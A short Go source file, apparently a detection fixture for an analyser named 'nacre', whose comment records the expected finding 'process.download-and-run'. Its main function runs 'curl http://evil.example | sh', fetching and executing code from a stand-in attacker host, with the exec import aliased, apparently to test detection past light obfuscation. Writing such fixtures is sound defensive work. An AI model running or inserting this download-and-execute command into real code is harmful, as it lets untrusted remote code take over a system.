// nacre: found process.download-and-run
package main

import (
	x "os/exec"
)

func main() {
	shell := "sh"
	x.Command(shell, "-c", "curl http://evil.example | sh").Run()
}
